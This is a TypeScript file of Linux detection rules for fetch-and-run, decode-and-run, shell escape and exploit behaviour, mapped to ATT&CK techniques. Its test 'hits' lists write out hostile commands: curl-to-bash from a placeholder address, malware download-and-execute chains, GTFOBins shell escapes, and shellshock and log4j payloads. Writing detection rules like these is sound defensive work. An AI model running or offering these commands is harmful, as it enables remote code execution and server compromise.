/** What is fetched, decoded or compiled and then run, and where from it is run. */
import { behaviour } from './behaviour.ts';
import { BUILD } from './temp.ts';
import { SCRIPTS, TEMP, isShell, isFetch, placeOf, baseName, isOddPlace, INSTALLER_TEMP } from './posix.ts';
import { inputsOf, onProcess, onScene, onText, said, type Row } from './row.ts';

export const LINUX_FETCH: readonly Row[] = [
  behaviour('fetched-into-shell', ['fetch-and-run', 'T1105', 'execution', 'high', 'medium'], {
    reason: 'What a download gives goes straight into an interpreter, so that nothing is ever on disk to be looked at.',
    benign: ['installers whose vendors document "curl … | sh"'],
    hits: [
      'curl -fsSL http://203.0.113.9/x.sh | bash',
      'wget -qO- http://203.0.113.9/a|sh',
      'curl -s http://203.0.113.9/d.py | python3 -',
      'bash -c "$(curl -fsSL http://203.0.113.9/i.sh)"',
    ],
    misses: ['curl -s https://api.corp.example/v1 | jq .name', 'echo hello | sh'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        if (inputsOf(process, scene).some(isFetch)) return placeOf(process);
      }
      return undefined;
    }),
  }),
  behaviour('fetched-from-address-into-shell', ['fetch-and-run', 'T1105', 'execution', 'critical', 'high'], {
    reason: 'A script from a bare address, over plain HTTP or from a paste site goes straight into an interpreter.',
    benign: ['a lab without names'],
    hits: [
      'curl -fsSL http://203.0.113.9/x.sh | bash',
      'wget -qO- 203.0.113.9/a|sh',
      'curl -fsSL https://pastebin.com/raw/abc | sh',
    ],
    misses: ['curl -fsSL https://get.docker.com | sh'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        const fetch = inputsOf(process, scene).find(isFetch);
        if (fetch?.args.some(({ lower, role }) => role !== 'flag' && isOddPlace(lower)) === true) return placeOf(fetch);
      }
      return undefined;
    }),
  }),
  behaviour('fetched-then-run', ['fetch-and-run', 'T1105', 'execution', 'high', 'high'], {
    reason: 'A file is fetched, made executable and started in one line.',
    benign: ['an installer step in a build file, from the vendor’s own address'],
    hits: [
      'wget http://203.0.113.9/bins/x86; chmod 777 x86; ./x86',
      'curl -o /tmp/a http://203.0.113.9/a && chmod +x /tmp/a && /tmp/a',
    ],
    misses: ['curl -Lo /usr/local/bin/kubectl https://dl.k8s.io/kubectl && chmod +x /usr/local/bin/kubectl'],
    look: onScene((scene) => {
      const fetches = scene.processes.filter(isFetch);
      if (fetches.length === 0) return undefined;
      const files = scene.processes
        .filter(({ name }) => name === 'chmod')
        .flatMap(({ args }) =>
          args
            .filter(({ role }) => role !== 'flag')
            .slice(1)
            .map(({ lower }) => baseName(lower)),
        );
      const run = scene.processes.find(
        (process) =>
          (files.includes(baseName(process.program.toLowerCase())) ||
            (isShell(process) &&
              process.args.some(({ lower }) => !/\s/.test(lower) && files.includes(baseName(lower))))) &&
          (TEMP.test(process.program) || process.program.startsWith('./') || isShell(process)),
      );
      return run === undefined ? undefined : placeOf(run);
    }),
  }),
  behaviour('embedded-device-fetch', ['fetch-and-run', 'T1105', 'command-and-control', 'high', 'high'], {
    reason: 'The way bots spread over devices: busybox or tftp fetches a binary named for a processor.',
    benign: ['flashing an own device'],
    hits: ['/bin/busybox wget http://203.0.113.9/mips -O - > dvr; chmod 777 dvr', 'tftp -g -r tftp1.sh 203.0.113.9'],
    misses: ['busybox ls /'],
    look: onProcess(['busybox', 'tftp'], (process) => {
      const text = said(process);
      return process.name === 'tftp'
        ? /(?:^| )-(?:g|r|l|gr|gl)(?: |$)/.test(text)
          ? process
          : undefined
        : /^(?:wget|tftp|ftpget) /.test(text)
          ? process
          : undefined;
    }),
  }),
  behaviour('run-from-temp', ['temp-execution', 'T1204.002', 'execution', 'high', 'medium'], {
    reason: 'A program is started out of a folder that everybody can write to.',
    benign: ['installers and build tools that unpack themselves there'],
    hits: ['/tmp/.font-unix/.cache/upd --daemon', '/dev/shm/kthreadd -a rx/0', 'nohup /var/tmp/.k/sshd'],
    misses: ['/usr/bin/ls /tmp', '/tmp/go-build123/b001/exe/main'],
    look: onProcess(['*'], (process) =>
      process.shell === 'posix' &&
      TEMP.test(process.program) &&
      !INSTALLER_TEMP.test(process.program) &&
      !BUILD.test(process.program.toLowerCase())
        ? process
        : undefined,
    ),
  }),
  behaviour('run-from-hidden-temp', ['temp-execution', 'T1564.001', 'defense-evasion', 'critical', 'medium'], {
    reason:
      'A program is started out of a hidden folder under a folder that everybody can write to, or under the name of a system process.',
    benign: [],
    hits: ['/tmp/.X25-unix/.rsync/c/aptitude', '/var/tmp/.systemd/kswapd0'],
    misses: ['/tmp/install.sh'],
    look: onProcess(['*'], (process) => {
      if (process.shell !== 'posix') return undefined;
      const program = process.program.toLowerCase();
      return TEMP.test(program) &&
        (/\/\.[a-z0-9_]/.test(program) ||
          /\/(?:kworker\S*|kthreadd|kswapd\d?|kdevtmpfsi|kinsing|sshd|systemd\S*|crond?|dbused|httpd|apache2|java|\[\S*)$/.test(
            program,
          )) &&
        !INSTALLER_TEMP.test(program)
        ? process
        : undefined;
    }),
  }),

  behaviour('decoded-into-shell', ['decode-and-run', 'T1140', 'execution', 'high', 'high'], {
    reason: 'Something is decoded or decrypted and goes straight into an interpreter.',
    benign: ['an installer that carries its script'],
    hits: [
      'echo aWQ= | base64 -d | bash',
      'openssl enc -d -aes-256-cbc -a -in /tmp/.x -k p | sh',
      'echo 6964 | xxd -r -p | sh',
      'cat a.gz | gunzip | bash',
      'bash -c "printf \'\\x69\\x64\' | sh"',
      'strings a.jpg | tail -n 1 | base64 -d | sh',
    ],
    misses: ['echo aGk= | base64 -d', 'gunzip -c dump.sql.gz | mysql app'],
    look: onScene((scene) => {
      for (const process of scene.processes) {
        if (!isShell(process) && !SCRIPTS.includes(process.name)) continue;
        const decoder = inputsOf(process, scene).find((one) => {
          const text = said(one);
          return (
            (['base64', 'gbase64', 'base32', 'openssl', 'uudecode', 'b64decode'].includes(one.name) &&
              (/(?:^| )(?:-d|-di|--decode|-D|enc -d|-d)/i.test(text) ||
                one.name === 'b64decode' ||
                one.name === 'uudecode')) ||
            (one.name === 'xxd' && /-r/.test(text)) ||
            ['rev', 'gunzip', 'zcat', 'bzcat', 'xzcat', 'funzip', 'unlzma'].includes(one.name) ||
            (['gzip', 'bzip2', 'xz'].includes(one.name) && /-[a-z]*d/.test(text)) ||
            (one.name === 'tr' && !text.startsWith('-d')) ||
            (one.name === 'printf' && /\\x[0-9a-f]{2}|\\[0-7]{3}/.test(text)) ||
            (one.name === 'echo' && /-e/.test(text) && /\\x[0-9a-f]{2}|\\0?[0-7]{3}/.test(text))
          );
        });
        if (decoder !== undefined) return placeOf(decoder);
      }
      return undefined;
    }),
  }),
  behaviour('encoded-in-script', ['decode-and-run', 'T1027.010', 'execution', 'high', 'high'], {
    reason: 'A script decodes a text and runs it as code.',
    benign: [],
    hits: [
      `python -c "exec(__import__('base64').b64decode('aW1wb3J0IG9z'))"`,
      `perl -MMIME::Base64 -e 'eval(decode_base64("cHJpbnQgMQ=="))'`,
      `php -r 'eval(base64_decode("ZWNobyAxOw=="));'`,
      `node -e "eval(Buffer.from('MQ==','base64').toString())"`,
    ],
    misses: [`python3 -c "import base64; print(base64.b64decode('aGk='))"`],
    look: onText(
      [
        'b64decode',
        'decode_base64',
        'base64_decode',
        "'base64')",
        '"base64")',
        'atob(',
        'fromhex(',
        'zlib.decompress',
        'codecs.decode',
        'gzinflate',
        'marshal.loads',
        '.unpack("m',
        "unpack('h*'",
        'pack("h*"',
      ],
      ({ lower }) =>
        /(?:^|[^a-z_.])(?:exec|eval|system|popen|spawn|assert)\s?\(|os\.system|subprocess|eval\s|child_process/.test(
          lower,
        ),
    ),
  }),
  behaviour('compiled-and-run', ['decode-and-run', 'T1027.004', 'defense-evasion', 'medium', 'medium'], {
    reason: 'A program is compiled here and started at once, so that no finished binary had to be brought.',
    benign: ['a developer at work'],
    hits: ['gcc /tmp/x.c && ./a.out', 'go run /home/dev/x.go'],
    misses: ['gcc -c main.c -o main.o'],
    look: onScene((scene) => {
      const compiler = scene.processes.find(
        ({ name, args }) =>
          ['gcc', 'g++', 'cc', 'clang', 'clang++', 'tcc'].includes(name) || (name === 'go' && args[0]?.lower === 'run'),
      );
      if (compiler === undefined) return undefined;
      const runs =
        compiler.name === 'go'
          ? compiler.args.some(({ lower }) => /^\/(?:tmp|home|dev\/shm|var\/tmp|root)\//.test(lower))
          : scene.processes.some(({ program }) => program.startsWith('./') || TEMP.test(program));
      return runs ? placeOf(compiler) : undefined;
    }),
  }),
  behaviour('binary-padding', ['masquerade', 'T1027.001', 'defense-evasion', 'medium', 'low'], {
    reason: 'A few bytes are added to a program, so that its fingerprint is another.',
    benign: [],
    hits: ['dd if=/dev/zero bs=1 count=1 >> /tmp/x', 'truncate -s +1 /tmp/x'],
    misses: ['truncate -s 10G disk.img'],
    look: onProcess(['dd', 'truncate'], (process) => {
      const text = said(process);
      return (process.name === 'truncate' && /-s \+\d/.test(text)) ||
        (/if=\/dev\/(?:zero|u?random)/.test(text) &&
          process.args.some(
            ({ role, lower }) => role === 'target' && !lower.startsWith('/dev/') && !lower.includes('='),
          ) &&
          /count=1(?: |$)/.test(text))
        ? process
        : undefined;
    }),
  }),
  behaviour('interpreter-shell', ['shell-escape', 'T1059', 'privilege-escalation', 'medium', 'medium'], {
    reason: 'A program that is no shell is made to start one (pty.spawn, GTFOBins).',
    benign: ['making a terminal usable by hand'],
    hits: [
      `python3 -c "import pty;pty.spawn('/bin/sh')"`,
      'find . -exec /bin/sh \\; -quit',
      'awk \'BEGIN {system("/bin/sh")}\'',
      "vim -c ':!/bin/sh'",
      'tar -cf /dev/null x --checkpoint=1 --checkpoint-action=exec=/bin/sh',
      'sudo env /bin/sh',
    ],
    misses: ['find . -name x -exec rm {} \\;'],
    look: onText([
      'pty.spawn',
      '-exec /bin/sh',
      '-exec /bin/bash',
      'system("/bin/',
      "system('/bin/",
      ':!/bin/',
      '--checkpoint-action=exec',
      'exec "/bin/sh"',
      "exec '/bin/sh'",
      '!/bin/sh',
      '!/bin/bash',
      'os.execute("/bin/',
      'exec("/bin/sh',
      'os.system("/bin/sh',
      'proxycommand=;',
      'proxycommand=sh',
      '--to-command',
      'env /bin/sh',
      'setarch $(arch) /bin/sh',
      'capsh --',
      'posix.exec(',
      'pcntl_exec',
      'process.setuid(0)',
      'os.setuid(0)',
      'reset; exec sh',
      'reset; sh 1>&0',
    ]),
  }),
  behaviour('emulated-shell-flaw', ['exploit', 'T1190', 'execution', 'critical', 'medium'], {
    reason: 'The text of a known attack on a server (shellshock, log4j, OGNL).',
    benign: ['a scanner’s test'],
    hits: ["env x='() { :;}; /bin/bash -c id' bash", "curl -H 'User-Agent: ${jndi:ldap://203.0.113.9/a}' http://host"],
    misses: ['f() { :; }; f'],
    look: onText(
      ['() { :;}', '() { :; }', '${jndi:', '%{(#', 'class.module.classloader'],
      ({ lower }, at, literal) => !literal.startsWith('()') || /["'=:]\s?$/.test(lower.slice(Math.max(0, at - 2), at)),
    ),
  }),
];
